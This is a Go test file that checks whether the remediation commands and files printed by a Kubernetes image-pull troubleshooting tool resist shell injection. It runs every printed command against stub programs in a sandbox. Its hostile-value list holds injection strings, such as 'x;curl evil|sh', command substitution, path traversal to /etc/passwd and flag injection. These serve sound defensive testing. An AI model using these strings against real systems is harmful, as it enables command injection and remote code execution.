// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package remedy

import (
	"crypto/sha256"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/pullmedic/pullmedic/evidence"
	"github.com/pullmedic/pullmedic/kubelet/keyring"
)

func sha256Of(data []byte) []byte { sum := sha256.Sum256(data); return sum[:] }

// hostile are values that somebody may have given to an image, a tag, a secret,
// an annotation, a node. Each would leave a canary if a shell read it.
func hostile() []string {
	return []string{
		"x;curl evil|sh", "x;touch canary", "$(touch canary)", "`touch canary`", "a\ntouch canary", "it's;touch canary;'", `"quoted";touch canary`, "x' ; touch canary #",
		"-rf", "--flag", "--kubeconfig=/tmp/evil", "a&touch canary", "a>canary", "x|tee canary", "ünïcode", "a\u202eb", "a\x1b[2Jb", "a\x00b", "../../etc/passwd", "${IFS}", "~root", "*", "{a,b}", "123", "null", strings.Repeat("x", 5000), "",
	}
}

// places are where a hostile value can stand.
func places() map[string]func(*situation, string) {
	return map[string]func(*situation, string){
		"node": func(s *situation, v string) { s.d.Pull.Node = v }, "namespace": func(s *situation, v string) { s.d.Pull.Namespace = v },
		"pod": func(s *situation, v string) { s.d.Pull.Pod = v }, "container": func(s *situation, v string) { s.d.Pull.Container = v },
		"host": func(s *situation, v string) { s.d.Pull.Reference.Host = v }, "repository": func(s *situation, v string) { s.d.Pull.Reference.Repository = v },
		"tag": func(s *situation, v string) { s.d.Pull.Reference.Tag = v }, "digest": func(s *situation, v string) { s.d.Pull.Reference.Digest = v },
		"image": func(s *situation, v string) { s.d.Pull.Image = v }, "kind": func(s *situation, v string) { s.d.Pull.Owner.Kind = v }, "owner": func(s *situation, v string) { s.d.Pull.Owner.Name = v },
		"secret": func(s *situation, v string) { s.d.Pull.PullSecrets = []string{v} }, "subject": func(s *situation, v string) { s.d.Causes[0].Subject.Name = v },
		"secret subject": func(s *situation, v string) {
			s.d.Causes[0].Subject = evidence.Subject{Kind: evidence.SubjectSecret, Name: "shop/" + v}
		},
		"system": func(s *situation, v string) { s.d.Pull.OSImage, s.d.Pull.NodeRoles = v, []string{v} }, "kubelet": func(s *situation, v string) { s.d.Pull.KubeletVersion = v },
		"kubelet of k3s": func(s *situation, v string) { s.d.Pull.KubeletVersion, s.d.Pull.Runtime = "v1.34.1+k3s1"+v, v },
		"platform":       func(s *situation, v string) { s.d.Pull.Platform = evidence.Platform{OS: v, Arch: v, Variant: v} }, "runtime": func(s *situation, v string) { s.d.Pull.Runtime = v },
		"other platform": func(s *situation, v string) { s.k.Platforms = []evidence.Platform{{OS: "linux", Arch: v}} },
		"target":         func(s *situation, v string) { s.k.Target.Name = v }, "target namespace": func(s *situation, v string) { s.k.Target.Namespace = v },
		"proven secret": func(s *situation, v string) {
			s.k.Secrets = []Secret{{Secret: keyring.Secret{Name: v}, ProvenFor: []string{s.d.Pull.Image}}}
		},
		"copy": func(s *situation, v string) {
			s.o.Mirror, s.k.Elsewhere = "", []Copy{{Image: v + "/acme/team/api:1"}, {Image: "quay.io/" + v + "/acme/team/api:1", Where: "runs in shop"}}
		},
		"release": func(s *situation, v string) {
			s.k.Target.Release = Release{Name: v, Namespace: "shop", Revision: 3, Status: v, Before: 2}
		},
		"release's namespace": func(s *situation, v string) {
			s.k.Target.Release = Release{Name: "api", Namespace: v, Unread: true}
		},
		"known digest": func(s *situation, v string) {
			s.k.Digests = map[string]string{s.d.Pull.Image: v}
		},
		"--to": func(s *situation, v string) { s.o.To = v }, "--mirror": func(s *situation, v string) { s.o.Mirror = v }, "--mirror's path": func(s *situation, v string) { s.o.Mirror = "m.example/" + v },
		"--copy-from": func(s *situation, v string) { s.copied("platform", v, "docker.io") }, "its namespace": func(s *situation, v string) { s.copied(v, "hub", "docker.io") },
		"its key": func(s *situation, v string) { s.copied("platform", "hub", v) },
		"--proxy": func(s *situation, v string) { s.o.Proxy = v }, "--proxy's host": func(s *situation, v string) { s.o.Proxy = "http://" + v }, "--ca's name": func(s *situation, v string) { s.o.CAFile = v },
		"finding": func(s *situation, v string) {
			s.d.Findings = []evidence.Finding{{Outcome: evidence.RateLimited, Subject: evidence.Subject{Kind: evidence.SubjectBlobStore, Name: v}, Details: map[string]string{"retryAfter": v, "window": v, "host": v}}}
		},
	}
}

// printed are all commands and files of all remedies that are handed over,
// with the ordinary values and with every hostile value in every place.
func printed(t *testing.T) (commands map[string]string, files map[string]File) {
	t.Helper()
	c, ids := causes(t)
	commands, files = map[string]string{}, map[string]File{}
	own := map[string]bool{}
	collect := func(where string, r Remedy, bad string) {
		if r.Kind == Applied {
			return
		}
		if len(bad) <= 4 || !own[r.ID] {
			bad = "no value"
		}
		for _, s := range slices.Concat(r.Steps, r.Lasting, r.Undo) {
			for _, command := range s.Commands {
				commands[command] = where + ", " + r.ID
				if strings.Contains(command, bad) {
					t.Errorf("%s, %s: the value is in the command %q", where, r.ID, command)
				}
			}
			if s.File != nil {
				files[s.File.Path+"\n"+s.File.Content] = *s.File
				if strings.Contains(s.File.Path, bad) || strings.Contains(s.File.Content, bad) {
					t.Errorf("%s, %s: the value is in the file %s", where, r.ID, s.File.Path)
				}
			}
			for _, text := range []string{r.Title, s.What, s.Where, s.Afterwards} {
				if own[r.ID] && strings.IndexFunc(text, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) >= 0 {
					t.Errorf("%s, %s says %q", where, r.ID, text)
				}
			}
		}
	}
	bad, into, seen := hostile(), places(), map[string]bool{}
	for _, id := range ids {
		alone := newFamilies(id, seen)
		for name, s := range situations(t, id) {
			p := planner{catalog: c, Case: s.k, d: s.d, cause: s.d.Causes[0], o: s.o}
			for _, r := range p.handOver() {
				own[r.ID] = true
			}
			for _, r := range s.plan(t, c) {
				collect(id+", "+name, r, "")
			}
		}
		bases := []situation{
			situations(t, id)["a bare pod"], situations(t, id)["an image volume"], situations(t, id)["an ephemeral container"],
			shop(id, "docker.io").given(t).asJob(), shop(id, "123456789012.dkr.ecr.eu-west-1.amazonaws.com").given(t),
			shop(id, "europe-docker.pkg.dev").given(t), shop(id, "acme.azurecr.io").given(t),
		}
		for i, value := range bad {
			all := bases[3]
			all.d.Causes = slices.Clone(all.d.Causes)
			for place, put := range into {
				one := bases[(i+len(place))%len(bases)]
				one.d.Causes = slices.Clone(one.d.Causes)
				put(&one, value)
				put(&all, value)
				p := planner{catalog: c, Case: one.k, d: one.d, cause: one.d.Causes[0], o: one.o}
				for _, f := range alone {
					for _, r := range f(&p) {
						collect(id+", "+place+" "+fmt.Sprintf("%.20q", value), r, value)
					}
				}
			}
			for _, r := range all.plan(t, c) {
				collect(id+", everywhere", r, value)
			}
		}
	}
	return commands, files
}

// newFamilies are the families of a cause that none before it had, or that look at
// the cause: the others would print the same again for each place and value.
func newFamilies(cause string, seen map[string]bool) []family {
	var all []family
	add := func(f any, run family) {
		name := runtime.FuncForPC(reflect.ValueOf(f).Pointer()).Name()
		_, method, _ := strings.Cut(name[strings.LastIndex(name, "/"):], ".")
		looks := slices.Contains([]string{"(*planner).login", "byHand.replaceJob", "byHand.tlsAtRegistry", "byHand.proxyDropIn", "byHand.credentialProvider"}, method)
		if !seen[method] || looks {
			all = append(all, run)
		}
		seen[method] = true
	}
	for _, f := range families()[cause] {
		add(f, f)
	}
	for _, f := range handedOver()[cause] {
		add(f, func(p *planner) []Remedy {
			found := f(byHand{p})
			for i := range found {
				found[i].Kind = HandedOver
			}
			return found
		})
	}
	return all
}

// programs that handed-over commands may call.
func programs() []string {
	return []string{
		"aws", "az", "cat", "chmod", "chronyc", "containerd", "cosign", "cp", "crictl", "crio", "ctr", "curl", "date", "df", "dmesg", "docker", "dockerd", "du", "find", "findmnt", "gcloud",
		"getent", "grep", "helm", "ip", "journalctl", "jq", "k3s", "kubectl", "ls", "microk8s", "mkdir", "mv", "nft", "openssl", "ps", "resolvectl", "rm", "sed", "skopeo", "systemctl", "tail", "talosctl", "tar", "timedatectl", "update-ca-certificates",
	}
}

// Hostile values get into no command and no file.
func TestHostileValues(t *testing.T) {
	t.Parallel()
	commands, files := printed(t)
	t.Run("every command does what it says", func(t *testing.T) { commandsDoWhatTheySay(t, commands) })
	t.Run("every file is what its reader takes", func(t *testing.T) { filesAreWhatTheirReadersTake(t, files) })
}

// commandsDoWhatTheySay runs every printed command in a shell whose
// programs are stand-ins that write down how they were called and do nothing,
// and compares that with what the command's own text says when it is read by
// the plainest rules: words between blanks, single quotes, and few operators.
func commandsDoWhatTheySay(t *testing.T, commands map[string]string) {
	if len(commands) < 200 {
		t.Fatalf("only %d commands", len(commands))
	}
	// A program that is called by its path is run by its name: nothing is there.
	named := map[string]string{}
	for command, where := range commands {
		named[strings.TrimPrefix(command, rancher+"rke2/bin/")] = where
	}
	commands = named
	all := slices.Sorted(maps.Keys(commands))
	var good []string
	said := map[string][][]string{}
	for _, command := range all {
		parts, err := read(command)
		switch {
		case strings.ContainsAny(command, "\n\r"):
			t.Errorf("%s: %q is not one line", commands[command], command)
		case err != nil:
			t.Errorf("%s: %q: %v", commands[command], command, err)
		default:
			said[command] = parts
			good = append(good, command)
		}
	}
	parsed(t, good, commands)
	used := map[string]bool{}
	sandboxed(t, "/bin/sh", "", good, commands, said, used)
	sandboxed(t, "/bin/bash", "set -r;", slices.DeleteFunc(slices.Clone(good), func(c string) bool { return strings.ContainsAny(c, "<>") }), commands, said, used)
	for _, name := range programs() {
		if !used[name] && name != "cp" { // which keeps a file, and none is there
			t.Errorf("%s is no longer called by any command: take it from the list", name)
		}
	}
	t.Logf("%d commands", len(commands))
}

// parsed has bash read every command without running it: as the body of a
// function that nobody calls, each by itself.
func parsed(t *testing.T, all []string, where map[string]string) {
	t.Helper()
	const each = `n=0; for c in "$@"; do eval "body() {
$c
}" 2>/dev/null || printf '%s\n' "$n"; n=$((n+1)); done`
	run := exec.CommandContext(t.Context(), "/bin/bash", append([]string{"-c", each, "bash"}, all...)...)
	run.Dir, run.Env = t.TempDir(), []string{"PATH=" + t.TempDir()}
	out, err := run.CombinedOutput()
	if err != nil {
		t.Fatalf("bash: %v: %s", err, out)
	}
	for _, n := range strings.Fields(string(out)) {
		if i, err := strconv.Atoi(n); err == nil && i < len(all) {
			t.Errorf("%s: bash does not read %q", where[all[i]], all[i])
		} else {
			t.Errorf("bash says %q", n)
		}
	}
	if made := entriesOf(t, run.Dir); len(made) > 0 {
		t.Errorf("commands that were only read made %q", made)
	}
}

// sandboxed runs every command in a subshell of one shell, in a folder of its
// own, where all programs are stand-ins.
func sandboxed(t *testing.T, shell, first string, all []string, where map[string]string, said map[string][][]string, used map[string]bool) {
	t.Helper()
	stubs, base := t.TempDir(), t.TempDir()
	for _, name := range append(programs(), "touch", "sh", "bash", "tee", "id", "env") {
		script := fmt.Sprintf("#!/bin/sh\nprintf '%%s\\0' %s \"$@\" > \"$CALLS.$$\"\n", name)
		if err := os.WriteFile(filepath.Join(stubs, name), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for i := range all {
		if err := os.MkdirAll(filepath.Join(base, strconv.Itoa(i), "dir"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	each := `n=0; for c in "$@"; do ( cd "$BASE/$n/dir" && CALLS="$BASE/$n/call" && export CALLS && { ` + first + ` eval "$c"; } ) >"$BASE/$n/said" 2>&1; n=$((n+1)); done`
	run := exec.CommandContext(t.Context(), shell, append([]string{"-c", each, shell}, all...)...)
	run.Dir, run.Env = base, []string{"BASE=" + base, "PATH=" + stubs, "HOME=" + base, "ACCOUNT=a b", "CLUSTER=c", "GROUP=g", "PRINCIPAL=p", "SCOPE=s", "WORKSPACE=w", "ADDRESS=1.2.3.4", "KEY=k", "NODE=10.0.0.1", "REVISION=2"}
	if out, err := run.CombinedOutput(); len(out) > 0 {
		t.Fatalf("%s: %v: %s", shell, err, out)
	}
	for i, command := range all {
		dir := filepath.Join(base, strconv.Itoa(i))
		if words, err := os.ReadFile(filepath.Join(dir, "said")); err != nil || len(words) > 0 {
			t.Errorf("%s: %s %q: %v: %s", where[command], shell, command, err, words)
		}
		compare(t, where[command], command, said[command], called(t, dir), used)
		for _, made := range entriesOf(t, filepath.Join(dir, "dir")) {
			if !slices.Contains([]string{"job-before.json", "job-new.json", "pod-before.json", "pod-new.json"}, made) {
				t.Errorf("%s: %q made the file %s", where[command], command, made)
			}
		}
	}
	if made := entriesOf(t, base); len(made) != len(all) {
		t.Errorf("there are %d files beside the %d folders", len(made)-len(all), len(all))
	}
}

// entriesOf a folder, by name.
func entriesOf(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, e := range entries {
		all = append(all, e.Name())
	}
	return all
}

// called reads what the stand-ins wrote down.
func called(t *testing.T, calls string) [][]string {
	t.Helper()
	var all [][]string
	for _, name := range entriesOf(t, calls) {
		if !strings.HasPrefix(name, "call.") {
			continue
		}
		data, err := os.ReadFile(filepath.Join(calls, name))
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, strings.Split(strings.TrimSuffix(string(data), "\x00"), "\x00"))
	}
	return all
}

// compare checks that nothing was called but what stands there, as it stands
// there; of what follows || and && not all is called, and test is the shell's.
func compare(t *testing.T, where, command string, parts, got [][]string, used map[string]bool) {
	t.Helper()
	for _, call := range got {
		used[call[0]] = true
		if !slices.Contains(programs(), call[0]) || !slices.ContainsFunc(parts, func(p []string) bool { return slices.Equal(p, call) }) {
			t.Errorf("%s: %q called %q", where, command, call)
		}
	}
	if !strings.Contains(command, "&& ") && !strings.Contains(command, "|| ") && len(got) != len(parts) {
		t.Errorf("%s: %q called %d programs, want %d", where, command, len(got), len(parts))
	}
}

// read reads a command line into the calls that it makes, by rules that are
// stricter than a shell's: whatever stands outside of single quotes must be a
// harmless character, an operator between blanks, or a variable that has to be
// set, between double quotes.
func read(command string) ([][]string, error) {
	var calls [][]string
	var call []string
	redirect := false
	for rest := command; rest != ""; {
		word, more, operator, err := next(rest)
		if err != nil {
			return nil, err
		}
		rest = more
		switch {
		case operator && (word == ">" || word == "<"):
			redirect = true
		case operator:
			calls, call = append(calls, call), nil
		case redirect:
			redirect = false
		default:
			call = append(call, word)
		}
	}
	return append(calls, call), nil
}

func next(rest string) (word, more string, operator bool, err error) {
	for _, o := range []string{"| ", "&& ", "|| ", "> ", "< "} {
		if strings.HasPrefix(rest, o) {
			return strings.TrimSpace(o), rest[len(o):], true, nil
		}
	}
	var b strings.Builder
	for rest != "" && rest[0] != ' ' {
		switch c := rest[0]; {
		case c == '\'':
			inner, after, ok := strings.Cut(rest[1:], "'")
			if !ok {
				return "", "", false, fmt.Errorf("an open quote")
			}
			b.WriteString(inner)
			rest = after
		case strings.HasPrefix(rest, `\'`):
			b.WriteByte('\'')
			rest = rest[2:]
		case strings.HasPrefix(rest, `"${`):
			name, after, ok := strings.Cut(rest[3:], `:?}"`)
			values := map[string]string{"ACCOUNT": "a b", "CLUSTER": "c", "GROUP": "g", "PRINCIPAL": "p", "SCOPE": "s", "WORKSPACE": "w", "ADDRESS": "1.2.3.4", "KEY": "k", "NODE": "10.0.0.1", "REVISION": "2"}
			if !ok || values[name] == "" {
				return "", "", false, fmt.Errorf("the variable %q", name)
			}
			b.WriteString(values[name])
			rest = after
		case strings.IndexByte("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_%+=:,./@-!", c) >= 0:
			b.WriteByte(c)
			rest = rest[1:]
		default:
			return "", "", false, fmt.Errorf("the character %q stands outside of quotes", c)
		}
	}
	return b.String(), strings.TrimPrefix(rest, " "), false, nil
}
